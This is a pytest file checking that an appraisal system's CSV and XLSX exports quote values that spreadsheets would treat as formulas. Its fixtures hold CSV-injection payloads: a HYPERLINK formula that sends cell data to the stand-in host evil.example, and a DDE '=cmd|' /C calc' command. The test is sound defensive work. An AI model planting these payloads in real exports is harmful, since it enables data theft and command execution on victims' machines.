"""Every CSV and XLSX export quotes text that a spreadsheet would run as a formula (OWASP's CSV-injection
rule): a leading = + - @ tab or carriage return gets a single quote in front; numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from drill.appraisal import entry, period_records, services
from drill.exams.analysis import HEADER, as_csv, as_xlsx
from drill.spreadsheets import safe_cell, safe_row
from tests.appraisal.test_bank_app import B001, OTHER_RATINGS
from tests.appraisal.world import labels_of, rate_all, scheme_file, sheet_csv

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_text_starting_like_a_formula_is_quoted_and_the_rest_is_left_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_row(["张经理", 3, -2.5, None, "a=b", ""]) == ["张经理", 3, -2.5, None, "a=b", ""]


def test_the_appraisal_exports_quote_hostile_names_and_branches(client, db, login, org, make_user):
    admin = make_user("A01", roles={"admin"}, branch="head", name="管理员甲")
    people = [
        make_user("M001", branch="east1", name=HOSTILE),
        make_user("M002", branch="east1", name="@SUM(1+1)"),
        make_user("M003", branch="west1", name="郑经理"),
    ]
    org["east1"].name = "+东城一网点"
    org["east"].name = "-东城支行"
    db.session.commit()
    period = services.create_period(scheme_file("bank-manager"), "quarterly", 2025, 1, admin)
    labels = labels_of("bank-manager")
    rows = {p.employee_no: {labels[k]: v for k, v in B001.items()} for p in people}
    sheet = sheet_csv(list(labels.values()), rows)
    entry.import_indicators(period, "q1.csv", sheet, admin, datetime.now(UTC))
    for person, score in zip(people, (5, 4, 3), strict=True):
        rate_all(period, person, {**OTHER_RATINGS, "thinking": score}, admin)
    assert period_records.compute_period(period, admin, datetime.now(UTC)).ok
    db.session.commit()
    login(admin)

    text = client.get(f"/appraisal/periods/{period.id}/export.csv").data.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert f"'{HOSTILE}" in cells and "'@SUM(1+1)" in cells and "'+东城一网点" in cells
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)

    book = load_workbook(io.BytesIO(client.get(f"/appraisal/periods/{period.id}/export.xlsx").data))
    values = [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [] and f"'{HOSTILE}" in values
    assert not any(isinstance(v, str) and v[:1] in ("=", "+", "-", "@") for v in values)


class _Stats:
    candidates, facility, point_biserial, upper_lower, mean_seconds = 3, 0.5, -0.2, None, 12.0
    distractors = {"b": 2}  # noqa: RUF012
    flags = ("negative discrimination",)


class _Question:
    key, type = "=cmd|' /C calc'!A0", "single"
    options = {"b": "@evil option"}  # noqa: RUF012


class _Test:
    candidates, items, mean, sd, alpha, sem = 3, 1, 1.0, 0.5, None, None


class _Analysis:
    items = [(_Stats(), _Question())]  # noqa: RUF012
    test = _Test()


def test_the_item_analysis_exports_quote_hostile_keys_and_options():
    rows = list(csv.reader(io.StringIO(as_csv(_Analysis()).lstrip("\ufeff"))))
    assert rows[0] == HEADER and rows[1][0] == "'=cmd|' /C calc'!A0" and rows[1][7] == "'@evil option: 2"
    assert rows[1][4] == "-0.2"  # a number, not quoted
    book = load_workbook(io.BytesIO(as_xlsx(_Analysis(), "+title")))
    items, summary = book["items"], book["test"]
    assert items["A2"].value == "'=cmd|' /C calc'!A0" and items["A2"].data_type == "s"
    assert summary["B1"].value == "'+title"
